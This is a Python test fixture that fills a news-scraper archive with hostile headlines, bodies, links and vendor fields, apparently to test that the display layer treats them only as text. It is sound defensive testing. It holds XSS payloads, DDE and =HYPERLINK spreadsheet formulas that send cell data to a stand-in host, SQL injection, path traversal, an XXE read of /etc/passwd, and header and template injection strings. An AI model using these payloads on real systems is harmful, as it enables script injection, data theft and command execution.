"""An archive of hostile texts: each stands wherever a page can put a text of its own.

A page writes what it likes into its headline, and an archive keeps it. So nothing that is shown may take a text for
more than text. Each text of :data:`TEXTS` is kicker, headline, lead, body, keyword, author, section, vendor, caption,
link text and more of one article, and of the state before an edit of the next one. Those that could run something set
``window.__hit`` or open a dialog; those that could load something name the host :data:`ELSEWHERE`.
"""

from __future__ import annotations

import datetime as dt
import unicodedata
from dataclasses import replace
from pathlib import Path

from official_list import official
from scraper.model import Alternate, Article, Image, LinkCheck, Reason, Reference, Related, Site, Vendor, fault
from scraper.store import Archive
from scraper.web.storable import storable
from store_records import save

NOW = dt.datetime(2026, 11, 23, 9, 30, tzinfo=dt.UTC)
"""When the archive was last written."""

ELSEWHERE = "elsewhere.example"
_HIT = "window.__hit=1;alert(1)"
_SCRIPT = f"<script>{_HIT}</script>"
# More letters than any word has, without a place to break it: a digest or an address in a text is like that.
_LETTERS = 5_000
# Bytes. Longer than any article, as a whole register put into one page is.
_LONG = 1_500_000

_RAW: dict[str, str] = {
    "script": f"Amt {_SCRIPT} öffnet",
    "handler": f'Amt <img src="x" onerror="{_HIT}"> öffnet',
    "double quote": f'Amt "><svg onload="{_HIT}"> öffnet',
    "single quote": f"Amt '><svg onload='{_HIT}'> öffnet",
    "attribute": f'Amt" autofocus tabindex=1 onfocus="{_HIT}" style="position:fixed;width:9999px" öffnet',
    "unquoted": f"Amt onmouseover={_HIT} öffnet",
    "end of style": f"Amt </style>{_SCRIPT} öffnet",
    "end of chart": f"Amt </text></title></desc></svg>{_SCRIPT} öffnet",
    "end of field": f"Amt </textarea></option></select></title>{_SCRIPT} öffnet",
    "end of script": f"Amt </script>{_SCRIPT}<!-- öffnet",
    "comment": "Amt --><!-- <![CDATA[ ]]> --!> öffnet",
    "style sheet": f"Amt }}*{{display:none}}@import url(http://{ELSEWHERE}/x.css);a{{background:url(//{ELSEWHERE}/y)}}",
    "frame": f'<iframe src="//{ELSEWHERE}"></iframe><base href="//{ELSEWHERE}"><object data="//{ELSEWHERE}">',
    "form": f'Amt <form action="//{ELSEWHERE}/"><input name=q><button>Suchen</button></form> öffnet',
    "refresh": f'Amt <meta http-equiv="refresh" content="0;url=http://{ELSEWHERE}/"> öffnet',
    "base": f'Amt <base href="//{ELSEWHERE}/" target="_blank"><link rel="stylesheet" href="//{ELSEWHERE}/x"> öffnet',
    "target": f'Amt <a href="//{ELSEWHERE}/" target="_top" ping="//{ELSEWHERE}/p">hier</a> öffnet',
    "button of a form": f'Amt <button form="search" formaction="//{ELSEWHERE}/">Suchen</button> öffnet',
    "names of the page": 'Amt <form id="document"><a id="main"></a><input name="body" id="q"> öffnet',
    "drawing": f'Amt <svg><a xlink:href="javascript:{_HIT}"><animate attributeName="href" to="javascript:{_HIT}"/></a>',
    "formula of a page": f'Amt <math><mtext><table><mglyph><style><img src="x" onerror="{_HIT}"></style></math>',
    "without script": f'Amt <noscript><p title="</noscript><img src=x onerror={_HIT}>"></noscript> öffnet',
    "other XML": f'Amt ]]></title><script xmlns="http://www.w3.org/1999/xhtml">{_HIT}</script><title><![CDATA[ öffnet',
    "entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><?xml-stylesheet href="//x"?> Amt &e; &#x;',
    "half an entity": "Amt &ltscript&gt &#x3cscript&#62 &AMP;&NewLine;&lpar; +ADw-script+AD4- öffnet",
    "header": f"Amt\r\nSet-Cookie: a=1\r\nContent-Type: text/html\r\n\r\n{_SCRIPT} öffnet",
    "file name": 'Amt "; filename="rechnung\u202efdp.exe"; filename*=UTF-8\'\'x.html öffnet',
    "line separators": f"Amt//\u2028{_HIT}\u2029{_HIT}\x85{_HIT}\x0b\x0c öffnet",
    "title of a mile": f'Amt <abbr title="{"sehr lang " * 2_000}">mit Ende</abbr> öffnet',
    "written out": "Amt &lt;b&gt;fett&lt;/b&gt; &amp;amp; &#60;script&#62; &quot;öffnet&quot;",
    "template": "Amt {{7*7}} {% for x in ''.__class__.__mro__ %}{{ x }}{% endfor %} {# fort #} ${7*7} <%= 7*7 %>",
    "format": "Amt {0} {self.__class__} %s %(title)s %d $title öffnet",
    "formula": f'=HYPERLINK("http://{ELSEWHERE}/?"&A1,"Amt öffnet")',
    "command": "+cmd|' /C calc'!A0",
    "at sign": "@SUM(1+1)*cmd|' /C calc'!A0",
    "link": f"Amt [öffnet](javascript:{_HIT}) javascript:{_HIT} data:text/html,{_SCRIPT}",
    "query": "Amt' OR 1=1; DROP TABLE articles; -- \" NEAR( * AND öffnet",
    "path": "../../../etc/passwd?x=1&y=2#z%00%2F..%5C öffnet",
    "turned": "Amt \u202etenffö\u202c, nie beendet: \u202etmA",
    "isolated": "Amt \u2067öffnet\u2069, nie beendet: \u2067Amt \u2066öffnet",
    "Hebrew": "הרשות פותחת: Amt (123) ל-OZG!",
    "Arabic": "تفتح البلدية مكتبها – Amt 2.0 – في مدينة أخرى؟",
    "emoji": "Amt 👩🏽‍💻🏳️‍🌈🇩🇪👨‍👩‍👧‍👦 öffnet 🎉",
    "marks": "\u0301\u0308 Amt Z\u0351\u036b\u0343\u036a\u0302" + "\u0489\u0336\u034d" * 60 + " öffnet",
    "controls": "Amt " + "".join(map(chr, range(32))) + "\x7f\x80\x85\x9f\u2028\u2029\ufeff\ufffe\uffff öffnet",
    "halves": "Amt \ud800 und \udfff öffnet",
    "blank": "\u00a0\u2003\u200b\u3000\u2800",
    "spaces": "Amt" + " " * 300 + "öffnet" + "\n" * 50 + "später",
    "compound": (
        "Rindfleischetikettierungsüberwachungsaufgabenübertragungsgesetz und "
        "Grundstücksverkehrsgenehmigungszuständigkeitsübertragungsverordnungsänderungsausschussvorsitzendenstellvertreter"
    ),
    "one word": "Ä" * _LETTERS,
    "address": f"https://{ELSEWHERE}/" + "sehr/lang" * 200,
}
# What has no place in a database the parser replaces: NUL and halves of characters.
TEXTS: dict[str, str] = {name: storable(text) for name, text in _RAW.items()}
"""What stands in the pages, by a name for it, as the archive is given it."""

ADDRESSES: tuple[str, ...] = (
    f"javascript:{_HIT}",
    f"JaVaScRiPt:{_HIT}//https://amt.example/",
    f"java\nscript:{_HIT}",
    f" \x01javascript:{_HIT}",
    f"data:text/html,{_SCRIPT}",
    f"vbscript:{_HIT}",
    "file:///etc/passwd",
    f"//{ELSEWHERE}/ohne-schema",
    f'https://{ELSEWHERE}/"onmouseover="{_HIT}"x="',
    f"https://{ELSEWHERE}/'><script>{_HIT}</script>",
    f"https://nutzer:geheim@{ELSEWHERE}/",
    f"https://{ELSEWHERE}/\u202efdp.exe",
    f"https://{ELSEWHERE}/" + "a" * 4_000,
    f"http://[::1]:99999/{_SCRIPT}",
    "",
)
"""Where links, pictures and vendors lead."""

# Sites of which releases are the same story: two print what the first one wrote.
_SITES = ("boshaft", "abschrift", "nachdruck")
_HOST = "https://{}.example/"
_RELEASE = (
    "Die Stadt Lindental führt das OZG ein und verlangt dafür {text}.",
    "Das BSI prüft die Anlage, die Landrätin hält die Frist für zu kurz.",
    "Wer im Bürgeramt wartet, liest auf dem Bildschirm, welche Unterlagen fehlen.",
    "Gebührenbescheide kommen künftig ohne Umschlag, die Kämmerei spart das Porto.",
    "Im Archiv stehen noch vierzig Meter Akten, die niemand mehr öffnen will.",
    "Der Personalrat stimmte nach drei Sitzungen zu, zwei Mitglieder enthielten sich.",
    "Bis zum Herbst sollen auch die Ortsteile an das Netz angeschlossen sein.",
)


def bare(text: str) -> str:
    """Return what is left of a text that a page may lay out: letters, digits, signs, without blanks and controls.

    A page may fold blanks and leave out characters that nobody sees; anything else has to be shown as it is.
    """
    return "".join(char for char in text if unicodedata.category(char)[0] not in "ZC" and char != "\ufffd")


def fill(path: Path) -> None:
    """Make the archive."""
    with Archive.open(path) as archive:
        names = list(TEXTS)
        for number, name in enumerate(names):
            earlier = TEXTS[names[number - 1]]
            first = _article(number, earlier)
            save(archive, first, b"first", NOW - dt.timedelta(days=2))
            save(archive, _article(number, TEXTS[name]), b"second", NOW - dt.timedelta(days=1))
        _releases(archive)
        save(archive, _endless(), b"endless", NOW - dt.timedelta(days=1))
        archive.official_names().put(official("20231130"), NOW, lambda done, total: None)
        with archive.transaction():
            _name_the_sites(archive)
            _note_problems(archive)
            _check_links(archive)


def _article(number: int, text: str) -> Article:
    """Return an article in which one text stands everywhere."""
    others = [f"{_HOST.format(_SITES[0])}meldung_{other}" for other in range(number)][-3:]
    return Article(
        url=f"{_HOST.format(_SITES[0])}meldung_{number}",
        site=_SITES[0],
        language="de",
        kicker=text,
        title=text,
        date=(NOW - dt.timedelta(days=number % 5)).date(),
        authors=[text, f"von {text}"],
        lead=text,
        body=f"Die Stadt Lindental meldet:\n\n{text}\n\nDas OZG gilt. {text} Das BSI schweigt.",
        keywords=[text, f"Thema {text}", "E-Government"],
        section=text,
        links=[*(Reference(url, text) for url in (*ADDRESSES, *others))],
        related=[Related(text, url, NOW.date(), text) for url in ADDRESSES[:4]],
        vendors=[Vendor(text, text, ADDRESSES[number % len(ADDRESSES)]), Vendor("Muster Software GmbH", text)],
        images=[Image(url, text, text) for url in (f"https://{ELSEWHERE}/1.png", *ADDRESSES[:2])],
        alternates=[Alternate(f"https://{ELSEWHERE}/druck", "print")],
        is_article=True,
        sources={"title": text, "body": text},
    )


def _endless() -> Article:
    """Return an article that has too much of everything."""
    sentence = "Das Amt öffnet später, und Muster Software liefert das OZG. "
    many = range(2_000)
    return replace(
        _article(900, "Endlos"),
        title="Endlose Überschrift " * 500,
        body="\n\n".join([sentence * 20] * (_LONG // len(sentence) // 20)),
        keywords=[f"Schlagwort Nummer {number}" for number in many],
        authors=[f"Verfasserin {number}" for number in many],
        links=[Reference(f"https://{ELSEWHERE}/{number}", f"Verweis {number}") for number in many],
        vendors=[Vendor(f"Anbieter {number} GmbH", "Köln", f"https://{ELSEWHERE}/{number}") for number in many],
    )


def _releases(archive: Archive) -> None:
    """Put releases into the archive that other sites print on the same day, under a headline of their own."""
    for number, name in enumerate(("script", "end of chart", "turned", "one word", "controls")):
        text = TEXTS[name]
        body = "\n\n".join(sentence.format(text=text) for sentence in _RELEASE[:1]) + "\n\n" + _release_text(number)
        for place, site in enumerate(_SITES):
            article = replace(
                _article(800 + number, text),
                url=f"{_HOST.format(site)}pressemitteilung_{number}",
                site=site,
                title=f"{text} ({place})",
                body=body,
            )
            save(archive, article, f"{site} {number}".encode(), NOW - dt.timedelta(days=1))


def _release_text(number: int) -> str:
    """Return a text that is long enough to be known again, and that no other release has."""
    places = ("Ahornfurt", "Brambach", "Dornhöfen", "Ettersried", "Gimbach")
    # A text that says the same of another place would be a template, which is no story.
    turned = _RELEASE[1 + number :] + _RELEASE[1 : 1 + number]
    return "\n\n".join(f"{sentence} {places[number]} {' '.join(sentence.split()[::-1])}" for sentence in turned)


def _name_the_sites(archive: Archive) -> None:
    for site, name in zip(_SITES, ("script", "double quote", "one word"), strict=True):
        archive.frontier.add_site(Site(site, TEXTS[name], ADDRESSES[0]))


def _note_problems(archive: Archive) -> None:
    """Note a problem with each text: of the archive, of sites, of pages and of addresses that no page has."""
    for number, text in enumerate(TEXTS.values()):
        site = _SITES[number % len(_SITES)]
        urls = (None, f"{_HOST.format(site)}meldung_{number}", ADDRESSES[number % len(ADDRESSES)] or None)
        found = (
            fault(Reason.OTHER, text=text),
            fault(Reason.NO_CONNECTION, why=text),
            fault(Reason.NONE_FITS, at=ADDRESSES[0], links=text, patterns=text),
        )
        for why in found:
            archive.problems.note((*_SITES, None)[number % 4], urls[number % 3], why, NOW)


def _check_links(archive: Archive) -> None:
    for number, text in enumerate(TEXTS.values()):
        url = f"https://{ELSEWHERE}/{number}"
        why = fault(Reason.NO_CONNECTION, why=text)
        archive.link_checks.keep(LinkCheck(url, "gone", NOW, NOW, 404, ADDRESSES[0], why, etag=text))
